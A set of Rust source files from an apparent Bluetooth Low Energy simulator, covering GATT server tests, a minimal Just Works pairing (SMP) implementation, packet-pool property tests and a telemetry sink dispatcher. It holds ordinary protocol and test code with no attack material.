        assert_eq!(u16::from_le_bytes([data[0], data[1]]), name);
        assert_eq!(&data[2..], b"Bulb");
    }

    #[test]
    fn discovery_outside_range_is_not_found() {
        let (mut server, _, _) = demo_server();
        let (rsp, _) = server.handle_att(&AttPdu::ReadByGroupTypeRequest {
            start: 0x100,
            end: 0xFFFF,
            group_type: Uuid::PRIMARY_SERVICE,
        });
        assert!(matches!(
            rsp,
            Some(AttPdu::ErrorResponse {
                code: error_code::ATTRIBUTE_NOT_FOUND,
                ..
            })
        ));
    }

    #[test]
    fn mtu_exchange_clamps() {
        let (mut server, _, _) = demo_server();
        let (rsp, _) = server.handle_att(&AttPdu::ExchangeMtuRequest { mtu: 512 });
        assert_eq!(rsp, Some(AttPdu::ExchangeMtuResponse { mtu: 247 }));
        let (rsp, _) = server.handle_att(&AttPdu::ExchangeMtuRequest { mtu: 5 });
        assert_eq!(rsp, Some(AttPdu::ExchangeMtuResponse { mtu: 23 }));
    }

    #[test]
    fn handle_of_finds_characteristics() {
        let (server, name, control) = demo_server();
        assert_eq!(server.handle_of(Uuid::DEVICE_NAME), Some(name));
        assert_eq!(server.handle_of(Uuid::short(0xFFE1)), Some(control));
        assert_eq!(server.handle_of(Uuid::short(0xDEAD)), None);
    }

    #[test]
    fn set_value_changes_reads() {
        let (mut server, name, _) = demo_server();
        server.set_value(name, b"Hacked".to_vec());
        let (rsp, _) = server.handle_att(&AttPdu::ReadRequest { handle: name });
        assert_eq!(
            rsp,
            Some(AttPdu::ReadResponse {
                value: b"Hacked".to_vec()
            })
        );
    }

    #[test]
    fn attributes_stay_sorted_and_binary_search_matches_linear_scan() {
        // The binary-search lookup relies on the database being sorted by
        // handle; verify the invariant and that every lookup (present or
        // absent) agrees with the old linear scan.
        let (server, _, _) = demo_server();
        let handles: Vec<u16> = server.attributes.iter().map(|a| a.handle).collect();
        let mut sorted = handles.clone();
        sorted.sort_unstable();
        sorted.dedup();
        assert_eq!(handles, sorted, "attributes sorted by unique handle");

        for handle in 0..=(handles.last().copied().unwrap_or(0) + 2) {
            let linear = server
                .attributes
                .iter()
                .find(|a| a.handle == handle)
                .map(|a| a.value.as_slice());
            assert_eq!(server.value(handle), linear, "handle {handle}");
        }
    }

    #[test]
    fn lookup_order_and_responses_unchanged_after_binary_search() {
        // Responses for the same request sequence, replayed against two
        // identically built servers, must stay byte-for-byte equal — the
        // binary-search refactor is lookup-only.
        let (mut server, name, control) = demo_server();
        let requests = [
            AttPdu::ReadRequest { handle: name },
            AttPdu::WriteRequest {
                handle: control,
                value: vec![4, 5],
            },
            AttPdu::ReadRequest { handle: control },
            AttPdu::ReadRequest { handle: 0x1234 },
            AttPdu::WriteCommand {
                handle: control,
                value: vec![6],
            },
        ];
        let transcript: Vec<_> = requests.iter().map(|r| server.handle_att(r)).collect();
        assert_eq!(
            transcript[0].0,
            Some(AttPdu::ReadResponse {
                value: b"Bulb".to_vec()
            })
        );
        assert_eq!(transcript[1].0, Some(AttPdu::WriteResponse));
        assert_eq!(
            transcript[2].0,
            Some(AttPdu::ReadResponse { value: vec![4, 5] })
        );
        assert!(matches!(
            transcript[3].0,
            Some(AttPdu::ErrorResponse {
                code: error_code::INVALID_HANDLE,
                ..
            })
        ));
        assert_eq!(transcript[4].0, None);
        assert_eq!(server.value(control), Some(&[6u8][..]));
    }

    #[test]
    fn apply_write_command_matches_handle_att_semantics() {
        let (mut server, name, control) = demo_server();
        assert!(server.apply_write_command(control, &[0xAB]));
        assert_eq!(server.value(control), Some(&[0xAB][..]));
        assert!(!server.apply_write_command(name, &[1]), "read-only");
        assert_eq!(server.value(name), Some(&b"Bulb"[..]), "value untouched");
        assert!(!server.apply_write_command(0x4444, &[1]), "missing handle");
    }

    #[test]
    fn notify_characteristic_gets_cccd() {
        let mut server = GattServer::new();
        let h = server
            .service(Uuid::short(0xAA00))
            .characteristic(Uuid::short(0xAA01), props::NOTIFY | props::READ, vec![])
            .finish();
        // CCCD sits right after the value handle and is writable.
        let (rsp, _) = server.handle_att(&AttPdu::WriteRequest {
            handle: h + 1,
            value: vec![1, 0],
        });
        assert_eq!(rsp, Some(AttPdu::WriteResponse));
    }
}
