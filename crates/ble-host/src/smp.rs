//! Minimal Security Manager: legacy *Just Works* pairing.
//!
//! Enough of SMP to provision a key for the paper's §VIII countermeasure
//! experiments: the confirm exchange built on `c1` and the STK derivation
//! via `s1` (both from `ble-crypto`). The derived STK is used directly as
//! the link key (the key-distribution phase is collapsed — a documented
//! simulation simplification that does not affect the Link-Layer behaviour
//! the attack interacts with).

use ble_crypto::pairing::{c1, s1};
use simkit::SimRng;

/// SMP PDU opcodes and encodings.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SmpPdu {
    /// Pairing Request (0x01).
    PairingRequest {
        /// Raw parameter bytes (io cap, oob, authreq, key size, key dist).
        params: [u8; 6],
    },
    /// Pairing Response (0x02).
    PairingResponse {
        /// Raw parameter bytes.
        params: [u8; 6],
    },
    /// Pairing Confirm (0x03).
    PairingConfirm {
        /// The 128-bit confirm value.
        value: [u8; 16],
    },
    /// Pairing Random (0x04).
    PairingRandom {
        /// The 128-bit random value.
        value: [u8; 16],
    },
    /// Pairing Failed (0x05).
    PairingFailed {
        /// Failure reason code.
        reason: u8,
    },
}

impl SmpPdu {
    /// Serialises to SMP channel bytes.
    pub fn to_bytes(&self) -> Vec<u8> {
        match self {
            SmpPdu::PairingRequest { params } => {
                let mut v = vec![0x01];
                v.extend_from_slice(params);
                v
            }
            SmpPdu::PairingResponse { params } => {
                let mut v = vec![0x02];
                v.extend_from_slice(params);
                v
            }
            SmpPdu::PairingConfirm { value } => {
                let mut v = vec![0x03];
                v.extend_from_slice(value);
                v
            }
            SmpPdu::PairingRandom { value } => {
                let mut v = vec![0x04];
                v.extend_from_slice(value);
                v
            }
            SmpPdu::PairingFailed { reason } => vec![0x05, *reason],
        }
    }

    /// Parses SMP channel bytes.
    pub fn from_bytes(bytes: &[u8]) -> Option<SmpPdu> {
        let (&op, data) = bytes.split_first()?;
        match op {
            0x01 | 0x02 => {
                let params: [u8; 6] = data.try_into().ok()?;
                Some(if op == 0x01 {
                    SmpPdu::PairingRequest { params }
                } else {
                    SmpPdu::PairingResponse { params }
                })
            }
            0x03 | 0x04 => {
                let value: [u8; 16] = data.try_into().ok()?;
                Some(if op == 0x03 {
                    SmpPdu::PairingConfirm { value }
                } else {
                    SmpPdu::PairingRandom { value }
                })
            }
            0x05 => Some(SmpPdu::PairingFailed {
                reason: *data.first()?,
            }),
            _ => None,
        }
    }
}

/// Default Just Works parameter block: NoInputNoOutput, no OOB, bonding,
/// 16-byte keys, no key distribution.
pub const JUST_WORKS_PARAMS: [u8; 6] = [0x03, 0x00, 0x01, 0x10, 0x00, 0x00];

/// Addressing context both sides need for `c1`.
#[derive(Debug, Clone, Copy)]
pub struct SmpContext {
    /// Initiator address (6 bytes, over-the-air order).
    pub ia: [u8; 6],
    /// Initiator address type bit.
    pub iat: u8,
    /// Responder address.
    pub ra: [u8; 6],
    /// Responder address type bit.
    pub rat: u8,
}

/// Outcome of a completed pairing.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SmpOutcome {
    /// Pairing succeeded with this Short-Term Key.
    Stk([u8; 16]),
    /// Pairing failed with this reason code.
    Failed(u8),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum InitiatorPhase {
    WaitResponse,
    WaitConfirm,
    WaitRandom,
    Done,
}

/// The pairing initiator (Central side).
#[derive(Debug)]
pub struct SmpInitiator {
    ctx: SmpContext,
    tk: [u8; 16],
    preq: [u8; 7],
    pres: [u8; 7],
    mrand: [u8; 16],
    sconfirm: [u8; 16],
    phase: InitiatorPhase,
}

impl SmpInitiator {
    /// Creates the initiator and the Pairing Request to send.
    pub fn start(ctx: SmpContext, rng: &mut SimRng) -> (Self, SmpPdu) {
        let req = SmpPdu::PairingRequest {
            params: JUST_WORKS_PARAMS,
        };
        let mut mrand = [0u8; 16];
        for b in &mut mrand {
            *b = rng.below(256) as u8;
        }
        let mut preq = [0u8; 7];
        preq.copy_from_slice(&req.to_bytes());
        (
            SmpInitiator {
                ctx,
                tk: [0; 16], // Just Works: TK = 0
                preq,
                pres: [0; 7],
                mrand,
                sconfirm: [0; 16],
                phase: InitiatorPhase::WaitResponse,
            },
            req,
        )
    }

    /// Feeds a received SMP PDU; returns a PDU to send and/or an outcome.
    pub fn on_pdu(&mut self, pdu: &SmpPdu) -> (Option<SmpPdu>, Option<SmpOutcome>) {
        match (self.phase, pdu) {
            (InitiatorPhase::WaitResponse, SmpPdu::PairingResponse { params }) => {
                self.pres[0] = 0x02;
                self.pres[1..].copy_from_slice(params);
                self.phase = InitiatorPhase::WaitConfirm;
                let mconfirm = c1(
                    &self.tk,
                    &self.mrand,
                    &self.preq,
                    &self.pres,
                    self.ctx.iat,
                    self.ctx.rat,
                    &self.ctx.ia,
                    &self.ctx.ra,
                );
                (Some(SmpPdu::PairingConfirm { value: mconfirm }), None)
            }
            (InitiatorPhase::WaitConfirm, SmpPdu::PairingConfirm { value }) => {
                self.sconfirm = *value;
                self.phase = InitiatorPhase::WaitRandom;
                (Some(SmpPdu::PairingRandom { value: self.mrand }), None)
            }
            (InitiatorPhase::WaitRandom, SmpPdu::PairingRandom { value: srand }) => {
                let expected = c1(
                    &self.tk,
                    srand,
                    &self.preq,
                    &self.pres,
                    self.ctx.iat,
                    self.ctx.rat,
                    &self.ctx.ia,
                    &self.ctx.ra,
                );
                self.phase = InitiatorPhase::Done;
                if expected == self.sconfirm {
                    let stk = s1(&self.tk, srand, &self.mrand);
                    (None, Some(SmpOutcome::Stk(stk)))
                } else {
                    (
                        Some(SmpPdu::PairingFailed { reason: 0x04 }),
                        Some(SmpOutcome::Failed(0x04)),
                    )
                }
            }
            (_, SmpPdu::PairingFailed { reason }) => (None, Some(SmpOutcome::Failed(*reason))),
            _ => (None, None),
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ResponderPhase {
    WaitRequest,
    WaitConfirm,
    WaitRandom,
    Done,
}

/// The pairing responder (Peripheral side).
#[derive(Debug)]
pub struct SmpResponder {
    ctx: SmpContext,
    tk: [u8; 16],
    preq: [u8; 7],
    pres: [u8; 7],
    srand: [u8; 16],
    mconfirm: [u8; 16],
    phase: ResponderPhase,
}

impl SmpResponder {
    /// Creates an idle responder.
    pub fn new(ctx: SmpContext, rng: &mut SimRng) -> Self {
        let mut srand = [0u8; 16];
        for b in &mut srand {
            *b = rng.below(256) as u8;
        }
        SmpResponder {
            ctx,
            tk: [0; 16],
            preq: [0; 7],
            pres: [0; 7],
            srand,
            mconfirm: [0; 16],
            phase: ResponderPhase::WaitRequest,
        }
    }

    /// Feeds a received SMP PDU; returns a PDU to send and/or an outcome.
    pub fn on_pdu(&mut self, pdu: &SmpPdu) -> (Option<SmpPdu>, Option<SmpOutcome>) {
        match (self.phase, pdu) {
            (ResponderPhase::WaitRequest, SmpPdu::PairingRequest { params }) => {
                self.preq[0] = 0x01;
                self.preq[1..].copy_from_slice(params);
                let rsp = SmpPdu::PairingResponse {
                    params: JUST_WORKS_PARAMS,
                };
                self.pres.copy_from_slice(&rsp.to_bytes());
                self.phase = ResponderPhase::WaitConfirm;
                (Some(rsp), None)
            }
            (ResponderPhase::WaitConfirm, SmpPdu::PairingConfirm { value }) => {
                self.mconfirm = *value;
                self.phase = ResponderPhase::WaitRandom;
                let sconfirm = c1(
                    &self.tk,
                    &self.srand,
                    &self.preq,
                    &self.pres,
                    self.ctx.iat,
                    self.ctx.rat,
                    &self.ctx.ia,
                    &self.ctx.ra,
                );
                (Some(SmpPdu::PairingConfirm { value: sconfirm }), None)
            }
            (ResponderPhase::WaitRandom, SmpPdu::PairingRandom { value: mrand }) => {
                let expected = c1(
                    &self.tk,
                    mrand,
                    &self.preq,
                    &self.pres,
                    self.ctx.iat,
                    self.ctx.rat,
                    &self.ctx.ia,
                    &self.ctx.ra,
                );
                self.phase = ResponderPhase::Done;
                if expected == self.mconfirm {
                    let stk = s1(&self.tk, &self.srand, mrand);
                    (
                        Some(SmpPdu::PairingRandom { value: self.srand }),
                        Some(SmpOutcome::Stk(stk)),
                    )
                } else {
                    (
                        Some(SmpPdu::PairingFailed { reason: 0x04 }),
                        Some(SmpOutcome::Failed(0x04)),
                    )
                }
            }
            (_, SmpPdu::PairingFailed { reason }) => (None, Some(SmpOutcome::Failed(*reason))),
            _ => (None, None),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ctx() -> SmpContext {
        SmpContext {
            ia: [0xA0; 6],
            iat: 0,
            ra: [0xB0; 6],
            rat: 0,
        }
    }

    /// Drives a full pairing between initiator and responder in-memory.
    fn run_pairing(tamper_confirm: bool) -> (Option<SmpOutcome>, Option<SmpOutcome>) {
        let mut rng_i = SimRng::seed_from(1);
        let mut rng_r = SimRng::seed_from(2);
        let (mut init, first) = SmpInitiator::start(ctx(), &mut rng_i);
        let mut resp = SmpResponder::new(ctx(), &mut rng_r);
        let mut to_resp = Some(first);
        let mut to_init: Option<SmpPdu> = None;
        let mut init_outcome = None;
        let mut resp_outcome = None;
        for _ in 0..10 {
            if let Some(pdu) = to_resp.take() {
                let (reply, outcome) = resp.on_pdu(&pdu);
                to_init = reply;
                resp_outcome = resp_outcome.or(outcome);
            }
            if let Some(mut pdu) = to_init.take() {
                if tamper_confirm {
                    if let SmpPdu::PairingConfirm { value } = &mut pdu {
                        value[0] ^= 0xFF;
                    }
                }
                let (reply, outcome) = init.on_pdu(&pdu);
                to_resp = reply;
                init_outcome = init_outcome.or(outcome);
            }
            if to_resp.is_none() && to_init.is_none() {
                break;
            }
        }
        (init_outcome, resp_outcome)
    }

    #[test]
    fn just_works_pairing_agrees_on_stk() {
        let (i, r) = run_pairing(false);
        let Some(SmpOutcome::Stk(stk_i)) = i else {
            panic!("initiator outcome {i:?}");
        };
        let Some(SmpOutcome::Stk(stk_r)) = r else {
            panic!("responder outcome {r:?}");
        };
        assert_eq!(stk_i, stk_r, "both sides derive the same STK");
    }

    #[test]
    fn tampered_confirm_fails_pairing() {
        let (i, _r) = run_pairing(true);
        assert!(matches!(i, Some(SmpOutcome::Failed(_))), "{i:?}");
    }

    #[test]
    fn pdu_roundtrips() {
        for pdu in [
            SmpPdu::PairingRequest {
                params: JUST_WORKS_PARAMS,
            },
            SmpPdu::PairingResponse {
                params: [1, 2, 3, 4, 5, 6],
            },
            SmpPdu::PairingConfirm { value: [7; 16] },
            SmpPdu::PairingRandom { value: [8; 16] },
            SmpPdu::PairingFailed { reason: 0x05 },
        ] {
            assert_eq!(SmpPdu::from_bytes(&pdu.to_bytes()), Some(pdu));
        }
    }

    #[test]
    fn malformed_pdus_rejected() {
        assert_eq!(SmpPdu::from_bytes(&[]), None);
        assert_eq!(SmpPdu::from_bytes(&[0x01, 1, 2]), None);
        assert_eq!(SmpPdu::from_bytes(&[0x03, 1]), None);
        assert_eq!(SmpPdu::from_bytes(&[0x09]), None);
    }

    #[test]
    fn out_of_order_pdus_ignored() {
        let mut rng = SimRng::seed_from(5);
        let mut resp = SmpResponder::new(ctx(), &mut rng);
        let (reply, outcome) = resp.on_pdu(&SmpPdu::PairingRandom { value: [0; 16] });
        assert!(reply.is_none() && outcome.is_none());
    }
}
