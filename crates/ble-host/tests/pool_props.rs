//! Property tests for the fixed-capacity [`PacketPool`] and its QoS
//! admission policies.
//!
//! Three invariants are pinned over arbitrary alloc/drop interleavings:
//!
//! 1. **Conservation / no double-free** — at every step, buffers held out
//!    plus buffers free equals the build-time capacity; dropping a
//!    `PooledBuf` returns exactly one buffer.
//! 2. **Exhaustion is observable and side-effect-free** — a refused
//!    `alloc` returns `None`, leaves occupancy untouched, and records the
//!    denial for exactly the refused client.
//! 3. **`ReserveN` starvation guarantee** — while a client holds fewer
//!    buffers than its reserve (and reserves fit the capacity), its next
//!    `alloc` always succeeds, no matter how greedy the other clients were.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code may panic freely

use ble_host::pool::{PacketPool, PooledBuf, QosPolicy, MAX_POOL_CLIENTS};
use proptest::collection::vec;
use proptest::prelude::*;

/// One step of a pool workload: take a buffer for a client, or return the
/// oldest/newest buffer currently held.
#[derive(Debug, Clone)]
enum Op {
    Alloc { client: usize },
    DropOldest,
    DropNewest,
}

fn any_op() -> impl Strategy<Value = Op> {
    prop_oneof![
        (0..MAX_POOL_CLIENTS).prop_map(|client| Op::Alloc { client }),
        Just(Op::DropOldest),
        Just(Op::DropNewest),
    ]
}

fn any_policy() -> impl Strategy<Value = QosPolicy> {
    prop_oneof![
        Just(QosPolicy::Fair),
        vec(0u16..4, MAX_POOL_CLIENTS..MAX_POOL_CLIENTS + 1).prop_map(|r| {
            let mut reserve = [0u16; MAX_POOL_CLIENTS];
            reserve.copy_from_slice(&r);
            QosPolicy::ReserveN { reserve }
        }),
    ]
}

proptest! {
    /// Invariant 1: held + free == capacity after every operation, for any
    /// policy and any interleaving — a lost or double-returned buffer
    /// breaks the equation in opposite directions.
    #[test]
    fn occupancy_is_conserved(
        capacity in 1usize..12,
        policy in any_policy(),
        ops in vec(any_op(), 1..120),
    ) {
        let pool = PacketPool::new(capacity, 32, policy);
        let mut held: Vec<PooledBuf> = Vec::new();
        for op in ops {
            match op {
                Op::Alloc { client } => {
                    if let Some(buf) = pool.alloc(client) {
                        held.push(buf);
                    }
                }
                Op::DropOldest => {
                    if !held.is_empty() {
                        drop(held.remove(0));
                    }
                }
                Op::DropNewest => {
                    drop(held.pop());
                }
            }
            let stats = pool.stats();
            prop_assert_eq!(stats.capacity, capacity);
            prop_assert_eq!(
                held.len() + stats.free,
                capacity,
                "held {} + free {} must equal capacity {}",
                held.len(), stats.free, capacity
            );
            prop_assert!(stats.high_water <= capacity);
        }
        drop(held);
        prop_assert_eq!(pool.stats().free, capacity, "all buffers must come home");
    }

    /// Invariant 2: once the pool is drained, every further `alloc` returns
    /// `None`, changes no occupancy counter, and charges the denial to the
    /// client that asked.
    #[test]
    fn exhaustion_denies_without_side_effects(
        capacity in 1usize..8,
        clients in vec(0..MAX_POOL_CLIENTS, 1..20),
    ) {
        let pool = PacketPool::new(capacity, 32, QosPolicy::Fair);
        let held: Vec<PooledBuf> =
            (0..capacity).map(|_| pool.alloc(0).expect("fillable")).collect();
        let baseline = pool.stats();
        prop_assert_eq!(baseline.free, 0);
        let mut expected_denials = baseline.denials;
        for client in clients {
            prop_assert!(pool.alloc(client).is_none(), "exhausted pool must refuse");
            expected_denials[client.min(MAX_POOL_CLIENTS - 1)] += 1;
            let stats = pool.stats();
            prop_assert_eq!(stats.free, 0, "a refusal must not free anything");
            prop_assert_eq!(stats.high_water, baseline.high_water);
            prop_assert_eq!(stats.denials, expected_denials);
        }
        drop(held);
        prop_assert_eq!(pool.stats().free, capacity);
    }

    /// Invariant 3: under `ReserveN` with reserves that fit the capacity, a
    /// client below its reserve is never starved — regardless of how many
    /// buffers the other clients grabbed first.
    #[test]
    fn reserve_n_client_below_reserve_always_admitted(
        reserves in vec(0u16..3, MAX_POOL_CLIENTS..MAX_POOL_CLIENTS + 1),
        slack in 0usize..4,
        greedy_ops in vec((0..MAX_POOL_CLIENTS, any::<bool>()), 0..60),
        victim in 0..MAX_POOL_CLIENTS,
    ) {
        let mut reserve = [0u16; MAX_POOL_CLIENTS];
        reserve.copy_from_slice(&reserves);
        let reserved: usize = reserve.iter().map(|&r| usize::from(r)).sum();
        let capacity = reserved + slack;
        prop_assume!(capacity > 0);
        prop_assume!(reserve[victim] > 0);
        let pool = PacketPool::new(capacity, 32, QosPolicy::ReserveN { reserve });

        // Arbitrary traffic from every client (the victim included), with
        // interleaved drops.
        let mut held: Vec<PooledBuf> = Vec::new();
        let mut victim_held: Vec<PooledBuf> = Vec::new();
        for (client, drop_one) in greedy_ops {
            if drop_one {
                drop(held.pop());
            } else if let Some(buf) = pool.alloc(client) {
                if client == victim {
                    victim_held.push(buf);
                } else {
                    held.push(buf);
                }
            }
        }
        // The guarantee under test: below its reserve, the victim's next
        // request must be admitted.
        if victim_held.len() < usize::from(reserve[victim]) {
            prop_assert!(
                pool.alloc(victim).is_some(),
                "client {} below its reserve ({} < {}) was starved",
                victim, victim_held.len(), reserve[victim]
            );
        }
    }
}
