//! Property tests: span records survive the JSONL codec exactly.
//!
//! The span profiler's offline consumers (`timeline --spans`, `profile`)
//! reconstruct the trace from JSONL lines, so the codec must round-trip
//! every field of [`TelemetryEvent::SpanEnter`] / [`TelemetryEvent::SpanExit`]
//! — including the extremes (`u64::MAX` durations, node-less harness spans)
//! a hand-picked fixture would miss.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code may panic freely

use ble_telemetry::jsonl::{parse_line, to_line};
use ble_telemetry::{parse_line as parse_line_reexport, SpanKind, TelemetryEvent, TelemetryRecord};
use proptest::prelude::*;
use simkit::Instant;

fn any_kind() -> impl Strategy<Value = SpanKind> {
    (0..SpanKind::ALL.len()).prop_map(|i| SpanKind::ALL[i])
}

fn any_node() -> impl Strategy<Value = Option<u32>> {
    prop_oneof![Just(None), (0u32..1024).prop_map(Some)]
}

proptest! {
    #[test]
    fn span_enter_round_trips(
        t_ns in any::<u64>(),
        node in any_node(),
        id in 1u32..u32::MAX,
        kind in any_kind(),
        detail in any::<u32>(),
    ) {
        let rec = TelemetryRecord {
            at: Instant::from_nanos(t_ns),
            node,
            event: TelemetryEvent::SpanEnter { id, kind, detail },
        };
        let line = to_line(&rec);
        prop_assert_eq!(parse_line(&line).expect("enter parses"), rec);
    }

    #[test]
    fn span_exit_round_trips(
        t_ns in any::<u64>(),
        node in any_node(),
        id in 1u32..u32::MAX,
        kind in any_kind(),
        detail in any::<u32>(),
        sim_ns in any::<u64>(),
        wall_ns in any::<u64>(),
        self_sim_ns in any::<u64>(),
        self_wall_ns in any::<u64>(),
    ) {
        let rec = TelemetryRecord {
            at: Instant::from_nanos(t_ns),
            node,
            event: TelemetryEvent::SpanExit {
                id,
                kind,
                detail,
                sim_ns,
                wall_ns,
                self_sim_ns,
                self_wall_ns,
            },
        };
        let line = to_line(&rec);
        prop_assert_eq!(parse_line(&line).expect("exit parses"), rec);
    }

    #[test]
    fn span_lines_are_single_line_json(
        id in 1u32..u32::MAX,
        kind in any_kind(),
        detail in any::<u32>(),
    ) {
        let rec = TelemetryRecord {
            at: Instant::ZERO,
            node: Some(3),
            event: TelemetryEvent::SpanEnter { id, kind, detail },
        };
        let line = to_line(&rec);
        prop_assert!(!line.contains('\n'));
        prop_assert!(line.starts_with('{') && line.ends_with('}'));
        // The crate-root re-export is the same function.
        prop_assert_eq!(
            parse_line_reexport(&line).expect("parses via re-export"),
            rec
        );
    }
}
