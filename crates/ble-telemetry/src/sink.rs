//! The sink trait and the per-simulation dispatcher.

use simkit::Instant;

use crate::event::TelemetryEvent;
use crate::span::{ClosedSpan, SpanId, SpanKind, SpanTracker};

/// One emitted record: when, who, what.
#[derive(Debug, Clone, PartialEq)]
pub struct TelemetryRecord {
    /// Simulation time of the event.
    pub at: Instant,
    /// Index of the emitting node (`None` for simulation-global events).
    /// Labels for indices arrive in the stream as
    /// [`TelemetryEvent::NodeAdded`] records.
    pub node: Option<u32>,
    /// The event itself.
    pub event: TelemetryEvent,
}

/// A consumer of telemetry records.
///
/// Sink `emit` implementations sit on the simulation hot path, so they must
/// not panic (xtask R1 applies) and should avoid allocation where possible.
/// Sinks are `Send` so that a world carrying them can move between threads.
pub trait TelemetrySink: Send {
    /// Consumes one record. Records arrive in simulation-time order.
    fn emit(&mut self, record: &TelemetryRecord);

    /// Flushes any buffered output (e.g. an OS file buffer). Called at the
    /// end of a run; a no-op by default.
    fn flush(&mut self) {}
}

/// The per-simulation dispatcher: a (usually empty) set of sinks.
///
/// Emit sites go through [`Telemetry::is_enabled`] or the deferred-build
/// pattern so that, with no sinks attached, an emit compiles to a
/// branch-and-return — the event value is never constructed.
///
/// # Example
///
/// ```
/// use ble_telemetry::{RingBufferSink, Telemetry, TelemetryEvent, TelemetryRecord};
/// use simkit::Instant;
///
/// let mut telemetry = Telemetry::default();
/// assert!(!telemetry.is_enabled());
///
/// let sink = RingBufferSink::new(16);
/// let ring = sink.handle();
/// telemetry.add_sink(Box::new(sink));
/// telemetry.emit_record(&TelemetryRecord {
///     at: Instant::ZERO,
///     node: None,
///     event: TelemetryEvent::TxEnd,
/// });
/// assert_eq!(ring.lock().len(), 1);
/// ```
#[derive(Default)]
pub struct Telemetry {
    sinks: Vec<Box<dyn TelemetrySink>>,
    spans: SpanTracker,
}

impl std::fmt::Debug for Telemetry {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Telemetry")
            .field("sinks", &self.sinks.len())
            .field("open_spans", &self.spans.open())
            .finish()
    }
}

impl Telemetry {
    /// Whether any sink is attached. Hot emit sites check this before
    /// building an event.
    #[inline]
    pub fn is_enabled(&self) -> bool {
        !self.sinks.is_empty()
    }

    /// Attaches a sink. Sinks receive every record emitted after attachment,
    /// in order.
    pub fn add_sink(&mut self, sink: Box<dyn TelemetrySink>) {
        self.sinks.push(sink);
    }

    /// Fans a record out to every sink.
    pub fn emit_record(&mut self, record: &TelemetryRecord) {
        for sink in &mut self.sinks {
            sink.emit(record);
        }
    }

    /// Builds the event lazily and fans it out; returns immediately when no
    /// sink is attached.
    #[inline]
    pub fn emit_with(
        &mut self,
        at: Instant,
        node: Option<u32>,
        build: impl FnOnce() -> TelemetryEvent,
    ) {
        if self.sinks.is_empty() {
            return;
        }
        let record = TelemetryRecord {
            at,
            node,
            event: build(),
        };
        self.emit_record(&record);
    }

    /// Installs the wall clock used for span wall-time attribution — a
    /// monotonic-nanoseconds function injected by the harness so this crate
    /// never reads `std::time` itself (the only sanctioned clock lives in
    /// the `bench::wallclock` quarantine, lint rule R8). Without a clock,
    /// span wall durations read 0 and sim-time attribution still works.
    pub fn set_span_clock(&mut self, clock: fn() -> u64) {
        self.spans.set_clock(clock);
    }

    /// Opens a span and emits its [`TelemetryEvent::SpanEnter`] record.
    ///
    /// With no sink attached this is a branch-and-return: no id is consumed,
    /// no clock is read, nothing is pushed, and the returned
    /// [`SpanId::DISABLED`] sentinel makes the matching
    /// [`Telemetry::span_exit`] a no-op too.
    #[inline]
    pub fn span_enter(
        &mut self,
        at: Instant,
        node: Option<u32>,
        kind: SpanKind,
        detail: u32,
    ) -> SpanId {
        if self.sinks.is_empty() {
            return SpanId::DISABLED;
        }
        let id = self.spans.enter(at, node, kind, detail);
        let record = TelemetryRecord {
            at,
            node,
            event: TelemetryEvent::SpanEnter {
                id: id.raw(),
                kind,
                detail,
            },
        };
        self.emit_record(&record);
        id
    }

    /// Closes a span and emits its [`TelemetryEvent::SpanExit`] record with
    /// sim-time and wall-clock totals plus self-time (net of nested spans).
    /// No-op for [`SpanId::DISABLED`] or an id already closed (e.g. by the
    /// end-of-run [`Telemetry::flush`]).
    #[inline]
    pub fn span_exit(&mut self, at: Instant, id: SpanId) {
        if id.is_disabled() || self.sinks.is_empty() {
            return;
        }
        if let Some(closed) = self.spans.exit(at, id) {
            self.emit_closed_span(&closed);
        }
    }

    fn emit_closed_span(&mut self, closed: &ClosedSpan) {
        let record = TelemetryRecord {
            at: closed.exit_at,
            node: closed.node,
            event: TelemetryEvent::SpanExit {
                id: closed.id.raw(),
                kind: closed.kind,
                detail: closed.detail,
                sim_ns: closed.sim_ns,
                wall_ns: closed.wall_ns,
                self_sim_ns: closed.self_sim_ns,
                self_wall_ns: closed.self_wall_ns,
            },
        };
        self.emit_record(&record);
    }

    /// Number of spans currently open (test/diagnostic aid).
    pub fn open_spans(&self) -> usize {
        self.spans.open()
    }

    /// Closes every still-open span (topmost first) so sinks always see a
    /// balanced enter/exit stream, then flushes every sink. Called by the
    /// world at end of run.
    pub fn flush_at(&mut self, at: Instant) {
        for closed in self.spans.close_all(at) {
            self.emit_closed_span(&closed);
        }
        self.flush();
    }

    /// Flushes every sink.
    pub fn flush(&mut self) {
        for sink in &mut self.sinks {
            sink.flush();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    struct Counting {
        seen: std::sync::Arc<std::sync::atomic::AtomicU64>,
    }

    impl TelemetrySink for Counting {
        fn emit(&mut self, _record: &TelemetryRecord) {
            self.seen.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        }
    }

    #[test]
    fn disabled_dispatcher_never_builds_the_event() {
        let mut t = Telemetry::default();
        let mut built = false;
        t.emit_with(Instant::ZERO, None, || {
            built = true;
            TelemetryEvent::TxEnd
        });
        assert!(!built, "event closure ran with no sinks attached");
    }

    #[test]
    fn records_fan_out_to_every_sink() {
        let mut t = Telemetry::default();
        let a = std::sync::Arc::new(std::sync::atomic::AtomicU64::new(0));
        let b = std::sync::Arc::new(std::sync::atomic::AtomicU64::new(0));
        t.add_sink(Box::new(Counting { seen: a.clone() }));
        t.add_sink(Box::new(Counting { seen: b.clone() }));
        t.emit_with(Instant::from_micros(5), Some(1), || TelemetryEvent::TxEnd);
        assert_eq!(a.load(std::sync::atomic::Ordering::Relaxed), 1);
        assert_eq!(b.load(std::sync::atomic::Ordering::Relaxed), 1);
    }
}
