//! Hierarchical span tracing over the telemetry bus.
//!
//! A *span* is a named interval with a begin and an end, carrying both the
//! simulation-time duration (deterministic, byte-identical across
//! equally-seeded runs) and a wall-clock duration read through an injected
//! clock (see [`SpanTracker::set_clock`]) so profiling never leaks
//! `std::time` into this crate (lint rule R8 — the only sanctioned clock
//! lives in `bench::wallclock`).
//!
//! Spans ride the existing [`crate::TelemetryEvent`] bus as
//! [`crate::TelemetryEvent::SpanEnter`] / [`crate::TelemetryEvent::SpanExit`]
